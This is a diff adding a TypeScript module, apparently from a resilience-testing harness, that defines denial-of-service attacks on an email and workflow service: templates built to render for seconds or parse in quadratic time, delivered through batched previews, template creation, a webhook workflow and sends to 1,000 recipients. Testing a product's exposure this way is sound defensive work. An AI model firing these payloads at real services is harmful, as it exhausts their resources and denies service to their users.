@@ -1,0 +1,83 @@
+import { newId } from '@postrider/core/kernel';
+import type { Attacker } from './attacker.ts';
+
+export interface Attack {
+  name: string;
+  /** Prepares what the attack needs. @returns the attack itself, which is started again until its time is over */
+  prepare(attacker: Attacker): Promise<() => Promise<unknown>>;
+}
+
+/** Renders for as long as a limit allows: a million rounds of a long condition. */
+const slowTemplate = `{% for i in (1..1000000) %}{% if ${'1 and '.repeat(200)}1 %}{% endif %}{% endfor %}`;
+/** Outputs with blanks in their middle, on which a careless parser spends quadratic time. */
+const blankTemplate = `{{ a${' '.repeat(49_900)}b }}`.repeat(40);
+
+const manyStrings = 10_000;
+const manyRecipients = 1_000;
+const batchSize = 20;
+
+export const attacks: readonly Attack[] = [
+  {
+    name: 'previews of templates that render for seconds, 20 in a request',
+    async prepare(attacker) {
+      const draft = { subject: slowTemplate.slice(0, 900), body: slowTemplate, type: 'TRANSACTIONAL' };
+      return () => attacker.batch('emails.previewContent', batchSize, draft);
+    },
+  },
+  {
+    name: 'templates that take quadratic time to parse',
+    async prepare(attacker) {
+      return () =>
+        attacker.request('/templates', {
+          name: `Blanks ${newId()}`,
+          type: 'TRANSACTIONAL',
+          from: attacker.from,
+          subject: 'Blanks',
+          body: blankTemplate,
+        });
+    },
+  },
+  {
+    name: 'a webhook body of 10,000 slow templates',
+    prepare: prepareWebhook,
+  },
+  {
+    name: 'email to 1,000 recipients with a template that renders for seconds',
+    async prepare(attacker) {
+      let round = 0;
+      return () => {
+        round += 1;
+        return attacker.request('/v1/send', {
+          to: Array.from({ length: manyRecipients }, (_, index) => `victim${round}-${index}@people.test`),
+          from: attacker.from,
+          subject: 'Slow',
+          body: slowTemplate,
+        });
+      };
+    },
+  },
+];
+
+/** A workflow with such a step, and an execution of it per round. */
+async function prepareWebhook(attacker: Attacker): Promise<() => Promise<unknown>> {
+  const event = 'attack';
+  const made = await attacker.request('/workflows', { name: 'Attack', eventName: event });
+  const { id, steps = [] } = JSON.parse(made.body || '{}') as { id?: string; steps?: { id: string }[] };
+  const step = await attacker.request(`/workflows/${id}/steps`, {
+    type: 'WEBHOOK',
+    name: 'Attack',
+    config: { url: 'https://example.com/', body: Array(manyStrings).fill(slowTemplate.slice(0, 400)) },
+    position: { x: 0, y: 0 },
+    autoConnect: false,
+  });
+  const { id: stepId } = JSON.parse(step.body || '{}') as { id?: string };
+  // A product that refuses such a step is not open to this attack.
+  if (stepId === undefined) return async () => undefined;
+  await attacker.request(`/workflows/${id}/transitions`, { fromStepId: steps[0]?.id, toStepId: stepId });
+  await attacker.request(`/workflows/${id}`, { enabled: true }, 'PATCH');
+  let round = 0;
+  return () => {
+    round += 1;
+    return attacker.request('/v1/track', { email: `target${round}@people.test`, event });
+  };
+}
